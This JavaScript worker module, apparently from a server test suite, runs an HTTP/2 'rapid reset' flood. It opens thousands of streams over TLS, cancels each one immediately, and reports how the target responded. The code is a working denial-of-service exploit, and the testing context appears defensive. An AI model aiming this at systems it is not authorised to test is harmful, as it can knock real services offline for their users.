// The rapid-reset attacker of transport-probes.ts (rapidReset), in a worker thread of its own so
// that its work (opening and resetting thousands of streams) does not run on the event loop of a
// server it attacks. workerData: a TlsTarget and { path, streams, from? }. Posts a
// RapidResetOutcome once the connection has closed, no stream has moved for 2 s, or after 20 s.
import { connect, constants } from 'node:http2';
import { parentPort, workerData } from 'node:worker_threads';

const { host, port, servername, ca, path, streams, from } = workerData;
// Connects to `host` whatever `servername` resolves to, and names `servername` in SNI and :authority.
const lookup = (_name, options, done) => (options?.all ? done(null, [{ address: host, family: 4 }]) : done(null, host, 4));
const attacker = connect(`https://${servername}:${port}`, { lookup, servername, ca, ...(from ? { localAddress: from } : {}) });
let sent = 0;
let goawayCode;
let error;
let endedBy;
const finish = (by) => {
  if (endedBy) return;
  endedBy = by;
  clearTimeout(giveUp);
  clearInterval(stall);
  attacker.destroy();
  parentPort.postMessage({ sent, endedBy, goawayCode, error });
};
const giveUp = setTimeout(() => finish('timeout'), 20_000);
let moved = 0;
const stall = setInterval(() => {
  if (sent > 0 && sent === moved) finish('stalled');
  moved = sent;
}, 2_000);
attacker.on('goaway', (code) => {
  goawayCode = code;
});
attacker.on('error', (failure) => {
  error = failure.code ?? failure.message;
});
let allSent = false;
attacker.on('close', () => finish(allSent ? 'client' : 'server'));
// Each stream is reset right after it is sent and replaced as soon as it is gone, 100 in flight
// (the concurrency a server allows does not slow it: reset streams do not count).
const open = () => {
  if (attacker.destroyed || attacker.closed) return;
  if (sent >= streams) {
    allSent = true;
    return attacker.close();
  }
  sent++;
  const stream = attacker.request({ ':path': path });
  stream.on('error', () => {});
  stream.on('close', open);
  stream.close(constants.NGHTTP2_CANCEL);
};
attacker.on('connect', () => {
  for (let index = 0; index < 100; index++) open();
});
